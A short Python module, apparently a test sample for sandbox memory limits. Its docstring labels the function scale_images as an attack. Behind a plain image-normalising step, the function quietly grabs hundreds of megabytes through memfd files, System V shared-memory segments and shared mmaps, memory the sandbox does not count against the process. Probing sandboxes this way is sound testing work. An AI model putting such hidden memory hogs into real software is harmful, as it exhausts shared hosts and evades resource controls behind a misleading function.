"""Keeps memory that belongs to no process: files in memory, System V segments, shared maps.

Attacks: scale_images
Sandbox: limits on memory
Reported: None of these
Breaks: It lasts no longer than its time
"""

import ctypes
import mmap
import os


def scale_images(images):
    system = ctypes.CDLL(None)
    taken = 0
    for n in range(10):
        try:
            file = os.memfd_create(f"hog-{n}")
            taken += os.write(file, bytes(2**25))
        except OSError:
            pass
        segment = system.shmget(0, 2**25, 0o1600)
        taken += segment >= 0
        try:
            shared = mmap.mmap(-1, 2**25)
            shared.write(bytes(2**25))
            taken += 1
        except OSError:
            pass
    if not taken:
        raise OSError("None of these")
    return images / 255
